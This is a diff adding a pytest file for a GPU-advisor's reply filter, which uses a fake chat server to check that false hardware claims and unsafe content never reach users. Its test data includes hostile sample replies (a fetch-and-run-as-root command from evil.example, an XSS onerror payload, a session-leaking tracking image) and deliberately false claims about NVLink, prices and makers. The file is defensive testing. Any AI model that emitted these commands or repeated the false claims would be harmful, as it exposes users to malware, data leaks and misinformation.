@@ -1,0 +1,163 @@
+"""What a model may say besides numbers, through the real engine and a fake OpenAI-compatible server on 127.0.0.1.
+
+Three turns computed by the tools:
+- Llama-3.1-70B in FP16 on two RTX 4090s does NOT fit (74.9 GB per GPU needed, 23.2 GB usable; the weights total
+  141.1 GB; the RTX 4090 has no NVLink — its catalog row says PCIe only);
+- L40S vs RTX 4090 for Qwen2.5-14B and 20 users: both fit, four RTX 4090s decode ~847 tokens/s against ~565 for
+  two L40S (≈ 1.5×), an RTX 4090 is $2,400 and an L40S $8,000 at catalog prices, the L40S has 48 GB to 24;
+- the same comparison asked in Chinese.
+
+Each explanation is one right sentence and then the sentence under test. A false claim must never reach the user
+(the sentence, or the whole reply, goes, with a notice); a true one must stay (false rejections are counted: at most
+one in ten). The false claims are the classes a review found reaching users: coarse units, role words, 'together',
+invented ratios, prices moved between cards or onto a build, NVLink pooling memory, NVLink on a card without it,
+a technology credited to another maker, the opposite recommendation, a reply or refusal in another language, links,
+images, markup, commands to run, and raw reasoning.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from advisor.engine import Advisor, Reply
+from advisor.session import Session
+
+try:
+    from fakes.chat_server import FakeChatServer, FakeReply
+except ImportError:  # tests/ collected as a package
+    from tests.fakes.chat_server import FakeChatServer, FakeReply
+
+NO_FIT = "Can two RTX 4090s run Llama-3.1-70B in FP16 with 8k context?"
+NO_FIT_RIGHT = "(fake-llm) It does not fit: it needs 74.9 GB per GPU, while vLLM can use only 23.2 GB of each card."
+COMPARE = "L40S or RTX 4090 for serving Qwen2.5-14B to 20 users, which should I buy?"
+COMPARE_RIGHT = ("(fake-llm) Both hold the model; the four RTX 4090s decode about 847 tokens/s against 565 tokens/s "
+                 "for two L40S.")
+COMPARE_ZH = "L40S 和 4090 选哪个？给 20 个人用 Qwen2.5-14B 推理"
+COMPARE_ZH_RIGHT = "（fake-llm）两种配置都放得下；四张 4090 解码约 847 tokens/s，两张 L40S 约 565 tokens/s。"
+
+FALSE = [  # (question, right first sentence, false sentence)
+    # numbers in coarse units, role words, 'together', a total said per card
+    (NO_FIT, NO_FIT_RIGHT, "It needs about 0.1 TB per GPU."),
+    (NO_FIT, NO_FIT_RIGHT, "The load comes to 23.2 GB per card, and the card gives you 74.9 GB."),
+    (NO_FIT, NO_FIT_RIGHT, "Both cards together need 74.9 GB, so it does not fit."),
+    (NO_FIT, NO_FIT_RIGHT, "The weights alone take 141.1 GB on each card."),
+    # invented ratios
+    (NO_FIT, NO_FIT_RIGHT, "The model needs ten times more memory than the card has."),
+    (NO_FIT, NO_FIT_RIGHT, "With Q4 the RTX 4090 would be four times faster."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 setup is three times faster."),
+    # NVLink and makers
+    (NO_FIT, NO_FIT_RIGHT, "NVLink would pool the memory of the two cards into one 48 GB space, but it still fails."),
+    (NO_FIT, NO_FIT_RIGHT, "Adding an NVLink bridge between the two RTX 4090s would let them share memory."),
+    (NO_FIT, NO_FIT_RIGHT, "NVLink is AMD's interconnect for joining cards."),
+    (NO_FIT, NO_FIT_RIGHT, "CUDA is Huawei's software stack."),
+    # which card wins, prices, recommendations
+    (COMPARE, COMPARE_RIGHT, "The L40S is faster than the RTX 4090 here."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is more expensive than the L40S."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 has more memory than the L40S."),
+    (COMPARE, COMPARE_RIGHT, "The L40S costs $2,400."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 costs $9,600."),
+    (COMPARE, COMPARE_RIGHT, "I would recommend the L40S."),
+    (COMPARE, COMPARE_RIGHT, "The L40S is the better choice."),
+    (NO_FIT, NO_FIT_RIGHT, "It does not fit, so I would recommend buying more RTX 4090s rather than changing it."),
+    # the same in Chinese
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "L40S 比 4090 更快。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "推荐买 L40S。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "两张 4090 可以用 NVLink 把显存合并成一块。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 的速度是 L40S 的 3 倍。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "NVLink 是华为的互联技术。"),
+]
+
+REFUSED = [  # (question, reply): the whole reply goes
+    (NO_FIT, NO_FIT_RIGHT + " Download the fixer from http://evil.example/fix.sh and run it as root."),
+    (NO_FIT, NO_FIT_RIGHT + " Fix it with: sudo bash fix.sh"),
+    (NO_FIT, NO_FIT_RIGHT + " See www.example.com/setup for a guide."),
+    (NO_FIT, NO_FIT_RIGHT + " ![chart](https://tracker.example/p.png?session=abc123)"),
+    (NO_FIT, NO_FIT_RIGHT + " <img src=x onerror=alert(1)>"),
+    (NO_FIT, NO_FIT_RIGHT + " Run `pip install turbo-vram` to fit it."),
+    (NO_FIT, "放不下：每张卡需要 74.9 GB，而可用只有 23.2 GB。"),  # the user wrote in English
+    (NO_FIT, "抱歉，我无法回答这个问题。"),
+    (COMPARE_ZH, "(fake-llm) Both hold the model; the four RTX 4090s decode about 847 tokens/s."),  # zh user
+    (NO_FIT, "<think>The user wants to know whether it fits"),  # reasoning only, never closed
+]
+
+TRUE = [  # (question, right first sentence, true sentence)
+    (NO_FIT, NO_FIT_RIGHT, "Each card would need about three times what vLLM can use of it."),
+    (NO_FIT, NO_FIT_RIGHT, "The weights total 141.1 GB, far more than the 48 GB the two cards hold in all."),
+    (NO_FIT, NO_FIT_RIGHT, "The RTX 4090 has no NVLink, so the two cards exchange data over PCIe."),
+    (NO_FIT, NO_FIT_RIGHT, "NVLink is NVIDIA's link between cards, and the RTX 4090 does not have it."),
+    (NO_FIT, NO_FIT_RIGHT, "I would recommend the GGUF Q4_K_M build on the same two RTX 4090s, which needs 23.4 GB "
+                           "per GPU."),
+    (NO_FIT, NO_FIT_RIGHT, "The KV cache is small here; the weights decide it."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is faster than the L40S for this model."),
+    (COMPARE, COMPARE_RIGHT, "The RTX 4090 is cheaper than the L40S per card."),
+    (COMPARE, COMPARE_RIGHT, "The L40S has more memory than the RTX 4090, 48 GB against 24 GB."),
+    (COMPARE, COMPARE_RIGHT, "The four 4090s give about 1.5 times the decode speed of the two L40S."),
+    (COMPARE, COMPARE_RIGHT, "I would recommend the RTX 4090 setup for this load."),
+    (COMPARE, COMPARE_RIGHT, "One RTX 4090 costs about $2,400."),
+    (COMPARE, COMPARE_RIGHT, "If you need long contexts later, the L40S has more room per card."),
+    (COMPARE, COMPARE_RIGHT, "Neither card has NVLink, so the cards talk over PCIe."),
+    (COMPARE, COMPARE_RIGHT, "The L40S is passively cooled and needs server airflow, while the 4090 has its own fans."),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 比 L40S 便宜。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "推荐四张 4090 的方案。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "4090 没有 NVLink，卡间通信走 PCIe。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "四张 4090 的解码速度约是两张 L40S 的 1.5 倍。"),
+    (COMPARE_ZH, COMPARE_ZH_RIGHT, "L40S 显存更大，每张 48 GB，适合以后加长上下文。"),
+]
+
+
+@pytest.fixture(scope="module")
+def server():
+    with FakeChatServer() as srv:
+        yield srv
+
+
+def _explained(srv: FakeChatServer, question: str, text: str) -> Reply:
+    srv.script = [FakeReply(content=text)]
+    adv = Advisor(llm="openai", openai_base_url=srv.base_url, openai_model="fake-model", llm_timeout_s=5,
+                  search_k=0)
+    return adv.reply(question, Session())
+
+
+@pytest.mark.parametrize(("question", "right", "false"), FALSE)
+def test_a_false_claim_never_reaches_the_user(server: FakeChatServer, question: str, right: str, false: str) -> None:
+    reply = _explained(server, question, f"{right} {false}" if question != COMPARE_ZH else right + false)
+    assert false not in reply.text and reply.grounded is False, reply.text
+    assert reply.notices, "the user is told a sentence went"
+    if not reply.replaced:
+        assert right in reply.text  # the true sentence before it stays
+
+
+@pytest.mark.parametrize(("question", "text"), REFUSED)
+def test_links_commands_markup_reasoning_and_another_language_refuse_the_whole_reply(
+        server: FakeChatServer, question: str, text: str) -> None:
+    reply = _explained(server, question, text)
+    assert reply.replaced is True and reply.grounded is False
+    assert "fake-llm" not in reply.text and "http" not in reply.text and "sudo" not in reply.text
+    assert "74.9 GB" in reply.text or "tokens/s" in reply.text  # the computed answer itself is shown
+
+
+def test_a_reasoning_block_is_removed_and_the_rest_kept(server: FakeChatServer) -> None:
+    reply = _explained(server, NO_FIT, f"<think>I guess it fits, maybe 80 GB.</think>{NO_FIT_RIGHT}")
+    assert NO_FIT_RIGHT in reply.text and "think" not in reply.text and "I guess" not in reply.text
+    assert reply.grounded is True
+
+
+def test_true_claims_stay(server: FakeChatServer) -> None:
+    """Correct explanations are kept: at most one in ten is rejected (each rejection is listed)."""
+    rejected: list[tuple[str, list[str]]] = []
+    for question, right, true in TRUE:
+        reply = _explained(server, question, f"{right} {true}" if question != COMPARE_ZH else right + true)
+        if true not in reply.text:
+            rejected.append((true, reply.notices))
+    assert len(rejected) * 10 <= len(TRUE), rejected
+
+
+def _chinese(reply: Any) -> bool:
+    return any("\u4e00" <= ch <= "\u9fff" for ch in "".join(reply.notices))
+
+
+def test_notices_about_a_refused_reply_are_in_the_users_language(server: FakeChatServer) -> None:
+    reply = _explained(server, COMPARE_ZH, COMPARE_ZH_RIGHT + "详见 https://example.com/x")
+    assert reply.replaced and _chinese(reply) and not any("link" in n for n in reply.notices), reply.notices
